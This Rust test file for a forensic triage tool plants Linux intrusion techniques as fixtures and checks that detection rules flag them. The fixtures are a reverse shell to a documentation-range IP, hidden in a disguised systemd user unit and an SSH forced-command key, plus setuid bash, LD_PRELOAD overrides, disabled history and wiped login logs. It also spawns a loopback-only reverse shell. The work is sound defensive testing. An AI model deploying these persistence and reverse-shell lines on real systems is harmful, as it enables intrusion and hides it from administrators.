//! Item 3 of issue 13: intrusion techniques dossier did not see, each planted alone on a copy
//! of `rootfs-clean`, collected with the real binary (`--root`) and analyzed with the triage
//! playbook. Each case must reach at least Suspicious with its rule and ATT&CK id, and the
//! benign counterpart of every technique, all together on one host, must stay Unclear/Benign
//! with none of the behaviour rules firing. A live reverse shell (bash on a loopback TCP
//! connection this test owns) is collected from this machine and must be found.

use dossier_tests::*;
use std::path::{Path, PathBuf};

/// One change to the clean root.
enum Plant {
    /// Write a file (path, content, mode).
    Write(&'static str, &'static [u8], u32),
    /// Write a file whose content is computed.
    Gen(&'static str, fn() -> Vec<u8>, u32),
    /// A symlink (path, target).
    Link(&'static str, &'static str),
    /// Copy a file of the clean root to another place (from, to, mode).
    CopyIn(&'static str, &'static str, u32),
    /// Append to a file of the clean root.
    Append(&'static str, &'static [u8]),
    /// Set an extended attribute (path, name, value).
    Xattr(&'static str, &'static str, &'static [u8]),
    /// Set the modification time (Unix seconds).
    Mtime(&'static str, u64),
}

use Plant::*;

/// A case: name (host name), plants, and the (rule, ATT&CK id, subject) it must produce. A
/// subject ending in ':' matches any line of that file.
struct Case {
    name: &'static str,
    plants: &'static [Plant],
    expect: &'static [(&'static str, &'static str, &'static str)],
}

const KEY: &str =
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBKjn0uj4Gk7sKWcU2aJnQc5pYc2KMvMSbKEbJ4Iu5Oq";

/// `security.capability` revision 2, effective, with these permitted bits (low word).
const CAP_NET_RAW: &[u8] = &[
    1, 0, 0, 2, 0, 0x20, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0,
];
const CAP_NET_BIND: &[u8] = &[
    1, 0, 0, 2, 0, 0x04, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0,
];
const CAP_SETUID: &[u8] = &[
    1, 0, 0, 2, 0x80, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0,
];

/// A lastlog with alice (uid 1000) logged in on pts/0 from 192.0.2.10 at the time of the
/// clean root's wtmp session.
fn lastlog() -> Vec<u8> {
    let mut v = vec![0u8; 292 * 1000];
    v.extend(1_762_303_600i32.to_le_bytes());
    let mut line = b"pts/0".to_vec();
    line.resize(32, 0);
    let mut host = b"192.0.2.10".to_vec();
    host.resize(256, 0);
    v.extend(line);
    v.extend(host);
    v
}

fn clean_wtmp() -> Vec<u8> {
    std::fs::read(fixture("rootfs-clean").join("var/log/wtmp")).unwrap()
}

fn authorized(cmd: &str) -> Vec<u8> {
    format!("{cmd} {KEY} deploy@example\n").into_bytes()
}

fn forced_key() -> Vec<u8> {
    authorized("command=\"/bin/bash -c 'bash -i >& /dev/tcp/198.51.100.47/443 0>&1'\",no-pty")
}

fn rrsync_key() -> Vec<u8> {
    authorized("restrict,command=\"/usr/bin/rrsync -ro /srv/backup\",from=\"192.0.2.0/24\"")
}

fn plain_key() -> Vec<u8> {
    format!("{KEY} admin@example\n").into_bytes()
}

fn other_key() -> Vec<u8> {
    b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIE5v0ZcC4wPGLbxEwUXWCn6yvYb9jH5+9vZbqz3m7k9H old@laptop\n"
        .to_vec()
}

const CASES: &[Case] = &[
    Case {
        name: "user-unit",
        plants: &[
            Write(
                "home/alice/.config/systemd/user/dbus-session-helper.service",
                b"[Unit]\nDescription=D-Bus session helper\n[Service]\nExecStart=/bin/bash -c 'bash -i >& /dev/tcp/198.51.100.47/443 0>&1'\nRestart=always\nRestartSec=60\n[Install]\nWantedBy=default.target\n",
                0o644,
            ),
            Link(
                "home/alice/.config/systemd/user/default.target.wants/dbus-session-helper.service",
                "/home/alice/.config/systemd/user/dbus-session-helper.service",
            ),
            Write("var/lib/systemd/linger/alice", b"", 0o644),
        ],
        expect: &[(
            "user-persistence-malicious",
            "T1543.002",
            "unit dbus-session-helper.service",
        )],
    },
    Case {
        name: "user-timer",
        plants: &[
            Write(
                "home/alice/.config/systemd/user/tracker-extract.timer",
                b"[Timer]\nOnBootSec=2min\nOnUnitActiveSec=10min\n[Install]\nWantedBy=timers.target\n",
                0o644,
            ),
            Link(
                "home/alice/.config/systemd/user/timers.target.wants/tracker-extract.timer",
                "/home/alice/.config/systemd/user/tracker-extract.timer",
            ),
            Write(
                "home/alice/.config/systemd/user/tracker-extract.service",
                b"[Service]\nType=oneshot\nExecStart=/var/tmp/.cache/tracker-extract\n",
                0o644,
            ),
        ],
        expect: &[(
            "user-persistence-malicious",
            "T1053.006",
            "unit tracker-extract.service",
        )],
    },
    Case {
        name: "user-autostart",
        plants: &[Write(
            "home/alice/.config/autostart/tracker-miner-fs.desktop",
            b"[Desktop Entry]\nType=Application\nName=Tracker File System Miner\nExec=/home/alice/.cache/.tracker/tracker-miner-fs --daemon\nNoDisplay=true\n",
            0o644,
        )],
        expect: &[(
            "user-persistence-malicious",
            "T1547.013",
            "/home/alice/.config/autostart/tracker-miner-fs.desktop",
        )],
    },
    Case {
        name: "sshd-keys-location",
        plants: &[
            Write(
                "etc/ssh/sshd_config",
                b"Include /etc/ssh/sshd_config.d/*.conf\nAuthorizedKeysFile .ssh/authorized_keys /var/tmp/.ICE-unix/.k/%u\nKbdInteractiveAuthentication no\nUsePAM yes\n",
                0o644,
            ),
            Gen("var/tmp/.ICE-unix/.k/root", plain_key, 0o644),
        ],
        expect: &[(
            "sshd-authorized-keys-location",
            "T1098.004",
            "/var/tmp/.ICE-unix/.k/root",
        )],
    },
    Case {
        name: "sshd-keys2",
        plants: &[
            Gen("root/.ssh/authorized_keys", plain_key, 0o600),
            Gen("root/.ssh/authorized_keys2", other_key, 0o600),
        ],
        expect: &[(
            "sshd-authorized-keys-location",
            "T1098.004",
            "/root/.ssh/authorized_keys2",
        )],
    },
    Case {
        name: "sshd-forced-command",
        plants: &[Gen("root/.ssh/authorized_keys", forced_key, 0o600)],
        expect: &[(
            "sshd-forced-command",
            "T1098.004",
            "/root/.ssh/authorized_keys:1",
        )],
    },
    Case {
        name: "sshd-empty-passwords",
        plants: &[
            Write("etc/ssh/sshd_config", b"Include /etc/ssh/sshd_config.d/*.conf\nUsePAM yes\n", 0o644),
            Write("etc/ssh/sshd_config.d/99-lab.conf", b"PermitEmptyPasswords yes\n", 0o644),
        ],
        expect: &[(
            "sshd-empty-passwords",
            "T1556",
            "/etc/ssh/sshd_config.d/99-lab.conf:1",
        )],
    },
    Case {
        name: "sshd-root-password",
        plants: &[
            Write("etc/ssh/sshd_config", b"Include /etc/ssh/sshd_config.d/*.conf\nUsePAM yes\n", 0o644),
            Write(
                "etc/ssh/sshd_config.d/50-cloud-init.conf",
                b"PermitRootLogin yes\nPasswordAuthentication yes\n",
                0o644,
            ),
        ],
        expect: &[(
            "sshd-root-password-login",
            "T1556",
            "/etc/ssh/sshd_config.d/50-cloud-init.conf:1",
        )],
    },
    Case {
        name: "setuid-shell",
        plants: &[CopyIn("usr/bin/bash", "var/tmp/.X11-unix/.s/bash", 0o4755)],
        expect: &[(
            "setuid-unowned",
            "T1548.001",
            "/var/tmp/.X11-unix/.s/bash",
        )],
    },
    Case {
        name: "cap-setuid",
        plants: &[
            Write("usr/local/bin/nm-helper", b"\x7fELF fake helper\n", 0o755),
            Xattr("usr/local/bin/nm-helper", "security.capability", CAP_SETUID),
        ],
        expect: &[(
            "file-capability-dangerous",
            "T1548",
            "/usr/local/bin/nm-helper",
        )],
    },
    Case {
        // polkitd ships a setuid-root agent helper; the intruder replaced it.
        name: "setuid-modified",
        plants: &[
            Append("var/lib/dpkg/info/polkitd.list", b"/usr/lib/polkit-1/polkit-agent-helper-1\n"),
            Append(
                "var/lib/dpkg/info/polkitd.md5sums",
                b"95f7006892ea9bae4b14e77de87b8d6a  usr/lib/polkit-1/polkit-agent-helper-1\n",
            ),
            Write(
                "usr/lib/polkit-1/polkit-agent-helper-1",
                b"\x7fELF fake polkit-agent-helper-1 for dossier fixtures\n/bin/sh -p\n",
                0o4755,
            ),
        ],
        expect: &[(
            "privileged-file-modified",
            "T1548.001",
            "/usr/lib/polkit-1/polkit-agent-helper-1",
        )],
    },
    Case {
        name: "unit-ld-preload",
        plants: &[
            Write(
                "etc/systemd/system/cron.service.d/override.conf",
                b"[Service]\nEnvironment=\"LD_PRELOAD=/var/tmp/.font-unix/libXcache.so\"\n",
                0o644,
            ),
            Write("var/tmp/.font-unix/libXcache.so", b"\x7fELF fake library\n", 0o755),
        ],
        expect: &[("unit-ld-preload", "T1574.006", "unit cron.service")],
    },
    Case {
        name: "histfile-null",
        plants: &[Append(
            "home/alice/.bashrc",
            b"\n# keep the terminal quiet\nexport HISTFILE=/dev/null\n",
        )],
        expect: &[("history-disabled", "T1562.003", "/home/alice/.bashrc:")],
    },
    Case {
        name: "history-link",
        plants: &[Link("root/.bash_history", "/dev/null")],
        expect: &[("history-file-nulled", "T1070.003", "/root/.bash_history")],
    },
    Case {
        // alice's login (wtmp) left no trace in an auth.log that was never rotated.
        name: "auth-log-emptied",
        plants: &[Write("var/log/auth.log", b"", 0o640)],
        expect: &[("login-logs-cleared", "T1070.002", "/var/log/auth.log")],
    },
    Case {
        // wtmp emptied; lastlog still says alice logged in, and no rotated wtmp exists.
        name: "wtmp-wiped",
        plants: &[Write("var/log/wtmp", b"", 0o664), Gen("var/log/lastlog", lastlog, 0o664)],
        expect: &[("login-logs-cleared", "T1070.002", "/var/log/wtmp")],
    },
];

/// The benign counterpart of each technique, all on one host.
const BENIGN: &[Plant] = &[
    // A plain user unit (enabled, lingering user) and a desktop autostart entry.
    Write(
        "home/alice/.config/systemd/user/syncthing.service",
        b"[Unit]\nDescription=Syncthing\n[Service]\nExecStart=/usr/bin/syncthing serve --no-browser\nRestart=on-failure\n[Install]\nWantedBy=default.target\n",
        0o644,
    ),
    Link(
        "home/alice/.config/systemd/user/default.target.wants/syncthing.service",
        "/home/alice/.config/systemd/user/syncthing.service",
    ),
    Write("var/lib/systemd/linger/alice", b"", 0o644),
    Write(
        "home/alice/.config/autostart/nextcloud.desktop",
        b"[Desktop Entry]\nType=Application\nName=Nextcloud\nExec=/usr/bin/nextcloud --background\n",
        0o644,
    ),
    Write(
        "home/alice/.config/systemd/user/backup.service",
        b"[Service]\nType=oneshot\nExecStart=/home/alice/.local/bin/restic backup /home/alice/docs\n",
        0o644,
    ),
    // A hardening drop-in, a restricted rrsync key, an authorized_keys2 sshd no longer reads.
    Write(
        "etc/ssh/sshd_config",
        b"Include /etc/ssh/sshd_config.d/*.conf\nAuthorizedKeysFile .ssh/authorized_keys\nUsePAM yes\nMatch User backup\n  ForceCommand /usr/bin/rrsync -ro /srv/backup\n",
        0o644,
    ),
    Write(
        "etc/ssh/sshd_config.d/10-hardening.conf",
        b"PermitRootLogin no\nPasswordAuthentication no\nPermitEmptyPasswords no\nKbdInteractiveAuthentication no\n",
        0o644,
    ),
    Gen("home/alice/.ssh/authorized_keys", rrsync_key, 0o600),
    Gen("root/.ssh/authorized_keys2", other_key, 0o600),
    // ping from its package with cap_net_raw; an exporter from a tarball with
    // cap_net_bind_service.
    Append(
        "var/lib/dpkg/status",
        b"\nPackage: iputils-ping\nStatus: install ok installed\nPriority: important\nArchitecture: amd64\nVersion: 3:20221126-1\nDescription: Tools to test the reachability of network hosts\n",
    ),
    Write("var/lib/dpkg/info/iputils-ping.list", b"/.\n/usr\n/usr/bin\n/usr/bin/ping\n", 0o644),
    Write(
        "var/lib/dpkg/info/iputils-ping.md5sums",
        b"2ee95909c0f4fc760da8b4318fa13731  usr/bin/ping\n",
        0o644,
    ),
    Write("usr/bin/ping", b"\x7fELF fake ping for dossier fixtures\n", 0o755),
    Xattr("usr/bin/ping", "security.capability", CAP_NET_RAW),
    Write("opt/node_exporter/node_exporter", b"\x7fELF fake exporter\n", 0o755),
    Xattr("opt/node_exporter/node_exporter", "security.capability", CAP_NET_BIND),
    // Logs just rotated: empty wtmp and auth.log, their predecessors written after the
    // last login; lastlog agrees with wtmp.1.
    Gen("var/log/wtmp.1", clean_wtmp, 0o664),
    Mtime("var/log/wtmp.1", 1_762_306_000),
    Write("var/log/wtmp", b"", 0o664),
    Mtime("var/log/wtmp", 1_762_400_000),
    Write("var/log/auth.log.1", b"Nov  5 00:46:40 h sshd[812]: Accepted publickey for alice\n", 0o640),
    Mtime("var/log/auth.log.1", 1_762_306_000),
    Write("var/log/auth.log", b"", 0o640),
    Mtime("var/log/auth.log", 1_762_400_000),
    Gen("var/log/lastlog", lastlog, 0o664),
    // Ordinary history settings.
    Append("home/alice/.bashrc", b"\nHISTCONTROL=ignoreboth\nHISTSIZE=10000\nHISTFILESIZE=20000\n"),
];

fn plant(root: &Path, p: &Plant) {
    use std::os::unix::fs::PermissionsExt;
    let write = |rel: &str, data: &[u8], mode: u32| {
        let dst = root.join(rel);
        std::fs::create_dir_all(dst.parent().unwrap()).unwrap();
        std::fs::write(&dst, data).unwrap();
        std::fs::set_permissions(&dst, std::fs::Permissions::from_mode(mode)).unwrap();
    };
    match p {
        Write(rel, data, mode) => write(rel, data, *mode),
        Gen(rel, f, mode) => write(rel, &f(), *mode),
        CopyIn(from, to, mode) => write(to, &std::fs::read(root.join(from)).unwrap(), *mode),
        Link(rel, target) => {
            let dst = root.join(rel);
            std::fs::create_dir_all(dst.parent().unwrap()).unwrap();
            let _ = std::fs::remove_file(&dst);
            std::os::unix::fs::symlink(target, &dst).unwrap();
        }
        Append(rel, data) => {
            let dst = root.join(rel);
            let mut all = std::fs::read(&dst).unwrap();
            all.extend_from_slice(data);
            std::fs::write(&dst, all).unwrap();
        }
        Xattr(rel, name, value) => {
            use std::os::unix::ffi::OsStrExt;
            let path = std::ffi::CString::new(root.join(rel).as_os_str().as_bytes()).unwrap();
            let name = std::ffi::CString::new(*name).unwrap();
            // SAFETY: both are C strings and `value` is a readable buffer of the given length.
            let r = unsafe {
                libc::setxattr(
                    path.as_ptr(),
                    name.as_ptr(),
                    value.as_ptr().cast(),
                    value.len(),
                    0,
                )
            };
            assert_eq!(r, 0, "setxattr {rel}: {}", std::io::Error::last_os_error());
        }
        Mtime(rel, secs) => {
            let f = std::fs::File::options()
                .write(true)
                .open(root.join(rel))
                .unwrap();
            f.set_modified(std::time::UNIX_EPOCH + std::time::Duration::from_secs(*secs))
                .unwrap();
        }
    }
}

fn collect_with(dir: &Path, host: &str, plants: &[Plant]) -> PathBuf {
    let root = fixture_copy("rootfs-clean", &dir.join(host));
    std::fs::write(root.join("etc/hostname"), format!("{host}\n")).unwrap();
    for p in plants {
        plant(&root, p);
    }
    collect(
        dir,
        &dir.join("bundles"),
        &["--no-analyze", "--root", root.to_str().unwrap()],
    )
}

fn host<'a>(json: &'a serde_json::Value, name: &str) -> &'a serde_json::Value {
    json["hosts"]
        .as_array()
        .unwrap()
        .iter()
        .find(|h| h["hostname"] == name)
        .unwrap_or_else(|| panic!("{name} not analyzed"))
}

fn summary(h: &serde_json::Value) -> String {
    let hits: Vec<String> = h["hits"]
        .as_array()
        .unwrap()
        .iter()
        .map(|x| format!("{}({})", x["rule"].as_str().unwrap(), x["weight"]))
        .collect();
    format!("score {} {}: {}", h["score"], h["verdict"], hits.join(" "))
}

fn finding_on(h: &serde_json::Value, rule: &str, subject: &str) -> bool {
    h["findings"].as_array().unwrap().iter().any(|f| {
        let s = f["subject"].as_str().unwrap_or_default();
        f["rule"] == rule
            && match subject.strip_suffix(':') {
                Some(file) => s
                    .strip_prefix(file)
                    .and_then(|l| l.strip_prefix(':'))
                    .is_some_and(|l| l.parse::<u32>().is_ok()),
                None => s == subject,
            }
    })
}

/// The behaviour rules of item 3 (their context companions may fire on benign hosts).
const BEHAVIOUR: &[&str] = &[
    "user-persistence-malicious",
    "sshd-authorized-keys-location",
    "sshd-forced-command",
    "sshd-empty-passwords",
    "sshd-root-password-login",
    "setuid-unowned",
    "file-capability-dangerous",
    "privileged-file-modified",
    "reverse-shell-stdio",
    "unit-ld-preload",
    "history-disabled",
    "history-file-nulled",
    "login-logs-cleared",
];

/// Every rule of item 3, context ones included.
const ITEM3: &[&str] = &[
    "user-persistence-malicious",
    "user-persistence-entry",
    "sshd-authorized-keys-location",
    "sshd-forced-command",
    "sshd-empty-passwords",
    "sshd-root-password-login",
    "sshd-keys-context",
    "setuid-unowned",
    "file-capability-dangerous",
    "privileged-file-modified",
    "privileged-file-context",
    "reverse-shell-stdio",
    "unit-ld-preload",
    "unit-ld-preload-context",
    "history-disabled",
    "history-file-nulled",
    "login-logs-cleared",
];

#[test]
fn each_missed_technique_alone_reaches_suspicious_and_its_benign_twin_does_not() {
    let d = tempfile::tempdir().unwrap();
    let mut bundles = vec![
        collect_with(d.path(), "cov-clean", &[]),
        collect_with(d.path(), "cov-benign", BENIGN),
    ];
    for case in CASES {
        bundles.push(collect_with(
            d.path(),
            &format!("cov-{}", case.name),
            case.plants,
        ));
    }
    let out = d.path().join("rep");
    let mut args = vec!["analyze", "--out", out.to_str().unwrap()];
    args.extend(bundles.iter().map(|b| b.to_str().unwrap()));
    let o = dossier(d.path(), &args);
    assert!(o.status.success(), "{}{}", stdout(&o), stderr(&o));
    let json: serde_json::Value =
        serde_json::from_slice(&std::fs::read(out.join("findings.json")).unwrap()).unwrap();

    let mut failures = Vec::new();
    let clean = host(&json, "cov-clean");
    assert_eq!(clean["verdict"], "Unclear/Benign", "{}", summary(clean));
    for name in ["cov-clean", "cov-benign"] {
        let h = host(&json, name);
        // Item 3's rules add no behaviour and at most their small context weights, and the
        // host as a whole stays unflagged.
        eprintln!("{name}: {}", summary(h));
        if h["verdict"] != "Unclear/Benign" {
            failures.push(format!("{name} is flagged: {}", summary(h)));
        }
        let ours: u64 = h["hits"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|x| ITEM3.iter().any(|r| x["rule"] == *r))
            .map(|x| x["weight"].as_u64().unwrap_or(0))
            .sum();
        if ours > 15 {
            failures.push(format!("{name}: item 3 rules add {ours}: {}", summary(h)));
        }
        for f in h["findings"].as_array().unwrap() {
            if BEHAVIOUR.iter().any(|r| f["rule"] == *r) {
                failures.push(format!(
                    "{name}: behaviour finding {} on {}: {}",
                    f["rule"], f["subject"], f["explanation"]
                ));
            }
        }
    }
    // The benign host's privileged files and keys were collected: the rules saw them.
    let benign = &bundles[1];
    let privileged = of_kind(benign, "privileged", "privileged_file");
    let ping = privileged.iter().find(|p| p["path"] == "/usr/bin/ping");
    assert_eq!(
        ping.map(|p| p["capabilities"]["text"].clone()),
        Some(serde_json::json!("cap_net_raw=ep")),
        "{privileged:?}"
    );
    assert!(
        of_kind(benign, "sshd", "authorized_key")
            .iter()
            .any(|k| k["command"] == "/usr/bin/rrsync -ro /srv/backup")
    );

    for case in CASES {
        let name = format!("cov-{}", case.name);
        let h = host(&json, &name);
        eprintln!("{name}: {}", summary(h));
        if !matches!(
            h["verdict"].as_str(),
            Some("Suspicious" | "Malicious likely")
        ) {
            failures.push(format!("{name} alone is not Suspicious: {}", summary(h)));
            continue;
        }
        for (rule, mitre, subject) in case.expect {
            let Some(hit) = h["hits"]
                .as_array()
                .unwrap()
                .iter()
                .find(|x| x["rule"] == *rule)
            else {
                failures.push(format!("{name}: {rule} did not fire: {}", summary(h)));
                continue;
            };
            if !hit["mitre"].as_array().unwrap().iter().any(|m| m == mitre) {
                failures.push(format!("{name}: {rule} lacks {mitre}"));
            }
            if hit["weight"].as_u64().unwrap_or(0) < 30 {
                failures.push(format!("{name}: {rule} alone does not reach 30: {hit}"));
            }
            if !finding_on(h, rule, subject) {
                failures.push(format!(
                    "{name}: no {rule} finding on {subject}: {}",
                    h["findings"]
                ));
            }
        }
    }
    // The setuid copy of bash is copied into the bundle (packages copies unowned files).
    let setuid = bundles
        .iter()
        .find(|b| b.to_string_lossy().contains("cov-setuid-shell"))
        .unwrap();
    let v = of_kind(setuid, "packages", "package_verify");
    let bash = v
        .iter()
        .find(|v| v["path"] == "/var/tmp/.X11-unix/.s/bash")
        .unwrap();
    assert_eq!(bash["status"], "not_owned");
    assert!(bash["copy"]["member"].is_string(), "{bash}");
    let p = &of_kind(setuid, "privileged", "privileged_file")[0];
    assert_eq!(p["copy_of"], "/usr/bin/bash", "{p}");
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn a_live_reverse_shell_is_found_by_its_socket_stdio() {
    use std::os::fd::OwnedFd;
    use std::process::{Command, Stdio};
    if !Path::new("/usr/bin/bash").exists() && !Path::new("/bin/bash").exists() {
        eprintln!("no bash: skipped");
        return;
    }
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let client = std::net::TcpStream::connect(listener.local_addr().unwrap()).unwrap();
    let (_server, _) = listener.accept().unwrap();
    let fd = |s: &std::net::TcpStream| Stdio::from(OwnedFd::from(s.try_clone().unwrap()));
    let mut child = Command::new("bash")
        .arg("-i")
        .stdin(fd(&client))
        .stdout(fd(&client))
        .stderr(fd(&client))
        .env("PS1", "$ ")
        .spawn()
        .unwrap();
    drop(client);
    let pid = child.id();
    let d = tempfile::tempdir().unwrap();
    let result = std::panic::catch_unwind(|| {
        let b = collect(d.path(), &d.path().join("out"), &["--no-analyze"]);
        let me = of_kind(&b, "proc", "process")
            .into_iter()
            .find(|p| p["pid"] == pid)
            .unwrap_or_else(|| panic!("bash {pid} not collected"));
        let inode = me["stdio"][0].as_str().unwrap().to_string();
        assert!(inode.starts_with("socket:["), "{me}");
        let rep = d.path().join("rep");
        let o = dossier(
            d.path(),
            &[
                "analyze",
                "--out",
                rep.to_str().unwrap(),
                b.to_str().unwrap(),
            ],
        );
        assert!(o.status.success(), "{}{}", stdout(&o), stderr(&o));
        let json: serde_json::Value =
            serde_json::from_slice(&std::fs::read(rep.join("findings.json")).unwrap()).unwrap();
        let h = &json["hosts"][0];
        let f = h["findings"]
            .as_array()
            .unwrap()
            .iter()
            .find(|f| f["rule"] == "reverse-shell-stdio" && f["subject"] == format!("pid {pid}"))
            .unwrap_or_else(|| panic!("no reverse-shell-stdio on pid {pid}: {}", h["findings"]));
        assert!(
            f["explanation"].as_str().unwrap().contains("127.0.0.1:"),
            "{f}"
        );
        let hit = h["hits"]
            .as_array()
            .unwrap()
            .iter()
            .find(|x| x["rule"] == "reverse-shell-stdio")
            .unwrap();
        assert!(
            hit["mitre"]
                .as_array()
                .unwrap()
                .iter()
                .any(|m| m == "T1059.004")
        );
    });
    // The shell this test started, by its PID, whatever happened above.
    let _ = child.kill();
    let _ = child.wait();
    if let Err(e) = result {
        std::panic::resume_unwind(e);
    }
}
